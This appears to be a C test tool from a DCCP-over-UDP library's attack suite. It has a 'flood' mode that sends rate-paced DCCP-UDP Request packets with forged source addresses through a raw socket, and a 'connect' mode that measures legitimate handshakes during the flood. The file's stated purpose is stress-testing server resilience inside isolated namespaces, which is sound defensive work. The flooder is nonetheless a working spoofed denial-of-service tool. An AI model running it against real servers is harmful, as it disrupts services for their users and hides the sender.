/*
 * udccp-spoof: the attacker and the legitimate client of the attack suite
 * (tests/attack/run.sh, doc/security.md).  Run it only inside the network
 * namespaces the suite makes: it sends packets with forged source
 * addresses.
 *
 *   udccp-spoof flood DST UDPPORT DCCPPORT SERVICE PPS SECONDS
 *       DCCP-UDP Requests (RFC 6773) from random source addresses in
 *       172.16.0.0/12, random UDP and DCCP source ports and random
 *       Sequence Numbers, through a raw IPv4 socket (IP_HDRINCL), paced at
 *       PPS in batches (sendmmsg).  Prints "flood sent N pps R".
 *   udccp-spoof connect HOST UDPPORT DCCPPORT SERVICE N TIMEOUT_MS [hold]
 *       N handshakes one after another with the udccp runtime, each
 *       aborted once open (Reset, so the server forgets it at once);
 *       "hold" keeps the first one open, and leaves it so (udccp-cat -l
 *       serves one connection and exits when it ends).
 *       Prints "connect n N ok K within_ms T max_ms M".
 *
 * SERVICE is a Service Code as udccp-perf and udccp-cat spell it ("PERF").
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <udccp/udccp.h>

#include "../../io/parse.h"

#define BATCH 64
#define PKT_LEN (20 + 8 + 20) /* IPv4, UDP, DCCP Request (X=1) */

static double now_s(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static uint64_t rng = 0x243F6A8885A308D3ULL;
static uint64_t xs(void) {
  rng ^= rng << 13;
  rng ^= rng >> 7;
  rng ^= rng << 17;
  return rng;
}

static uint16_t ip_cksum(const uint8_t *p, size_t n) {
  uint32_t s = 0;
  for (size_t i = 0; i + 1 < n; i += 2) {
    s += (uint32_t)(p[i] << 8 | p[i + 1]);
  }
  while (s >> 16) {
    s = (s & 0xFFFF) + (s >> 16);
  }
  return (uint16_t)~s;
}

/* One spoofed Request: RFC 4340 §5.1 generic header with X = 1 and the
 * §5.2 Service Code; the DCCP checksum is zero on DCCP-UDP (RFC 6773
 * §3.3), the UDP checksum zero (optional over IPv4). */
static void build(uint8_t *p, uint32_t dst, uint16_t uport, uint16_t dport,
                  uint32_t service) {
  uint64_t r = xs();
  uint32_t src = htonl(0xAC100000u | (uint32_t)(r & 0x000FFFFF));
  uint16_t usport = (uint16_t)(1024 + ((r >> 20) % 64000));
  uint16_t dsport = (uint16_t)(1024 + ((r >> 36) % 64000));
  uint64_t seq = xs() & 0xFFFFFFFFFFFFULL;
  memset(p, 0, PKT_LEN);
  p[0] = 0x45;
  p[2] = PKT_LEN >> 8;
  p[3] = PKT_LEN & 0xFF;
  p[8] = 64;
  p[9] = IPPROTO_UDP;
  memcpy(p + 12, &src, 4);
  memcpy(p + 16, &dst, 4);
  uint16_t c = ip_cksum(p, 20);
  p[10] = (uint8_t)(c >> 8);
  p[11] = (uint8_t)c;
  uint8_t *u = p + 20;
  u[0] = (uint8_t)(usport >> 8);
  u[1] = (uint8_t)usport;
  u[2] = (uint8_t)(uport >> 8);
  u[3] = (uint8_t)uport;
  u[4] = 0;
  u[5] = 28;
  uint8_t *d = u + 8;
  d[0] = (uint8_t)(dsport >> 8);
  d[1] = (uint8_t)dsport;
  d[2] = (uint8_t)(dport >> 8);
  d[3] = (uint8_t)dport;
  d[4] = 5;                              /* Data Offset: 20 bytes */
  d[8] = (uint8_t)(UDCCP_PKT_REQUEST << 1) | 1; /* Type, X = 1 */
  for (int i = 0; i < 6; i++) {
    d[10 + i] = (uint8_t)(seq >> (8 * (5 - i)));
  }
  d[16] = (uint8_t)(service >> 24);
  d[17] = (uint8_t)(service >> 16);
  d[18] = (uint8_t)(service >> 8);
  d[19] = (uint8_t)service;
}

static int flood(int argc, char **argv) {
  if (argc != 8) {
    return 2;
  }
  struct in_addr dst;
  uint32_t service;
  if (inet_pton(AF_INET, argv[2], &dst) != 1 ||
      udccp_service_code_parse(argv[5], &service) != 0) {
    fprintf(stderr, "udccp-spoof: bad address or service\n");
    return 2;
  }
  uint16_t uport = (uint16_t)atoi(argv[3]), dport = (uint16_t)atoi(argv[4]);
  double pps = atof(argv[6]), secs = atof(argv[7]);
  int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (fd < 0) {
    perror("udccp-spoof: raw socket (root needed)");
    return 1;
  }
  int sb = 4 << 20;
  (void)setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &sb, sizeof(sb));
  static uint8_t pkts[BATCH][PKT_LEN];
  struct iovec iov[BATCH];
  struct mmsghdr mm[BATCH];
  struct sockaddr_in to;
  memset(&to, 0, sizeof(to));
  to.sin_family = AF_INET;
  to.sin_addr = dst;
  memset(mm, 0, sizeof(mm));
  for (int i = 0; i < BATCH; i++) {
    iov[i].iov_base = pkts[i];
    iov[i].iov_len = PKT_LEN;
    mm[i].msg_hdr.msg_iov = &iov[i];
    mm[i].msg_hdr.msg_iovlen = 1;
    mm[i].msg_hdr.msg_name = &to;
    mm[i].msg_hdr.msg_namelen = sizeof(to);
  }
  double t0 = now_s(), t;
  uint64_t sent = 0;
  while ((t = now_s() - t0) < secs) {
    double due = t * pps;
    if ((double)sent >= due) {
      struct timespec ts = {0, 200000};
      nanosleep(&ts, NULL);
      continue;
    }
    int n = BATCH;
    if (due - (double)sent < BATCH) {
      n = (int)(due - (double)sent) + 1;
    }
    for (int i = 0; i < n; i++) {
      build(pkts[i], dst.s_addr, uport, dport, service);
    }
    int r = sendmmsg(fd, mm, (unsigned)n, 0);
    if (r > 0) {
      sent += (uint64_t)r;
    } else if (r < 0 && errno != ENOBUFS && errno != EAGAIN &&
               errno != EINTR) {
      perror("udccp-spoof: sendmmsg");
      return 1;
    }
  }
  t = now_s() - t0;
  printf("flood sent %llu pps %.0f\n", (unsigned long long)sent,
         (double)sent / t);
  return 0;
}

static int legit(int argc, char **argv) {
  if (argc != 8 && !(argc == 9 && strcmp(argv[8], "hold") == 0)) {
    return 2;
  }
  udccp_sock *held = NULL;
  uint32_t service;
  if (udccp_service_code_parse(argv[5], &service) != 0) {
    fprintf(stderr, "udccp-spoof: bad service\n");
    return 2;
  }
  int n = atoi(argv[6]), tmo = atoi(argv[7]), ok = 0;
  udccp_endpoint_config cfg;
  udccp_endpoint_config_default(&cfg);
  cfg.remote_udp_port = (uint16_t)atoi(argv[3]);
  udccp_endpoint *ep = NULL;
  int rv = udccp_endpoint_new_config(&ep, &cfg);
  if (rv != 0) {
    fprintf(stderr, "udccp-spoof: endpoint: %s\n", udccp_io_strerror(rv));
    return 1;
  }
  double worst = 0;
  for (int i = 0; i < n; i++) {
    udccp_sock *s = NULL;
    double t0 = now_s();
    rv = udccp_connect(ep, &s, argv[2], (uint16_t)atoi(argv[4]), service, 0,
                       tmo);
    double dt = (now_s() - t0) * 1e3;
    if (rv == 0) {
      ok++;
      worst = dt > worst ? dt : worst;
      if (argc == 9 && held == NULL) {
        held = s;
      } else {
        udccp_abort(s);
      }
    } else {
      fprintf(stderr, "udccp-spoof: handshake %d: %s after %.0f ms\n", i,
              udccp_io_strerror(rv), dt);
    }
    (void)udccp_endpoint_run(ep, 5);
  }
  /* a held connection is left open: udccp_endpoint_del() sends nothing */
  (void)held;
  udccp_endpoint_del(ep);
  printf("connect n %d ok %d within_ms %d max_ms %.1f\n", n, ok, tmo, worst);
  return 0;
}

int main(int argc, char **argv) {
  int rv = 2;
  if (argc > 1 && strcmp(argv[1], "flood") == 0) {
    rv = flood(argc, argv);
  } else if (argc > 1 && strcmp(argv[1], "connect") == 0) {
    rv = legit(argc, argv);
  }
  if (rv == 2) {
    fprintf(stderr,
            "usage: udccp-spoof flood DST UDPPORT DCCPPORT SERVICE PPS SECONDS\n"
            "       udccp-spoof connect HOST UDPPORT DCCPPORT SERVICE N "
            "TIMEOUT_MS [hold]\n");
  }
  return rv;
}
